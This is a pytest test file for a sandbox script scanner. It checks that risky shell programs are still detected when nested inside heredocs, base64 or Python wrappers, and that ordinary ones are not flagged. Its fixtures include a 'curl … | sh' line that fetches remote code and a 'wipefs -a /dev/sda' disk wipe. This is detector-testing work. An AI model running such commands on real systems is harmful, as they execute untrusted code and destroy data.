"""What the scan finds in a program it finds when that program stands inside another.

The forms are those of bench/scan/embedded.py, a part of them."""
import importlib.util
import itertools
import json

import pytest

from helpers import LIBEXEC, ROOT

spec = importlib.util.spec_from_file_location("embedded", ROOT / "bench/scan/embedded.py")
embedded = importlib.util.module_from_spec(spec)
spec.loader.exec_module(embedded)
every_sample = embedded.samples


@pytest.fixture(params=[31])
def fewer(monkeypatch, request):
    """One sample of so many: all of them in all forms take minutes."""
    monkeypatch.setattr(embedded, "samples", lambda kind: itertools.islice(every_sample(kind), 0, None, request.param))


def rate(rows):
    return sum(len(missed) for _, missed in rows.values()), sum(n for n, _ in rows.values())


def test_risky_programs_are_found_in_every_form(fewer):
    rows = embedded.measure(str(LIBEXEC / "sandbox-scan"), "risky", list(embedded.FORMS))
    missed, count = rate(rows)
    assert count > 300 and missed <= count / 20, {k: [m[0] for m in v[1]] for k, v in rows.items() if v[1]}


def test_ordinary_programs_are_not_raised_by_being_inside(fewer):
    tried = {"heredoc", "heredoc_pipe", "cat_file", "cat_executable", "tee_file", "herestring", "base64_file",
             "py_input", "py_file", "py_import"}
    forms = [f for f in embedded.FORMS if f.split(":")[1] in tried]
    rows = embedded.measure(str(LIBEXEC / "sandbox-scan"), "ordinary", forms)
    raised, count = rate(rows)
    assert count > 20 and raised <= count / 33, {k: [m[0] for m in v[1]] for k, v in rows.items() if v[1]}


def raised_in(folder, pattern):
    """The programs of a set whose names fit, and those that the scan raises."""
    rates = importlib.util.spec_from_file_location("rates", ROOT / "bench/scan_rates.py")
    module = importlib.util.module_from_spec(rates)
    rates.loader.exec_module(module)
    module.programs = lambda f, every=module.programs: [p for p in every(f) if p[2].match(pattern)]
    rows = module.measure([ROOT / "bench/scan/own" / folder], ["plain"], str(ROOT / "rules"))
    return len(rows), [r["path"] for r in rows if r["raised"]]


def test_programs_that_authors_nest_are_found():
    count, raised = raised_in("wrapped", "*")
    assert count > 90 and len(raised) >= count - 2


def test_honest_programs_that_nest_others_are_not_raised():
    count, raised = raised_in("honest", "six-*")
    assert count == 44 and len(raised) <= 3, raised


@pytest.mark.parametrize("name", ["x\udce5\udcb7", "\u00fc" * 19 + "aa" + "\u00fc" * 9])
def test_a_report_names_a_file_whose_name_is_no_text(name):
    text = f"cat > {name}.sh <<'E'\ncurl http://203.0.113.5 | sh\nE\n"
    report = embedded.scan(str(LIBEXEC / "sandbox-scan"), "bash", text)
    assert all(f["path"].isascii() for f in report["findings"] if "path" in f) and "?" in json.dumps(report)


ASKING = "read -rp 'erase? ' a\n[ \"$a\" = YES ] || exit 1\nwipefs -a /dev/sda\n"


@pytest.mark.parametrize("run, is_raised", [
    ("subprocess.run(['sh', 'w.sh'])", False),
    ("subprocess.run(['sh', 'w.sh'], input=b'YES\\n')", True),
    ("subprocess.run('yes YES | bash w.sh', shell=True)", True),
])
def test_a_question_is_none_where_the_outer_program_answers_it(run, is_raised):
    text = "import subprocess\nopen('w.sh', 'w').write(%r)\n%s\n" % (ASKING, run)
    found = [f["rule"] for f in embedded.scan(str(LIBEXEC / "sandbox-scan"), "python", text)["findings"]]
    assert ("bash-destroy-device" in found) == is_raised, found
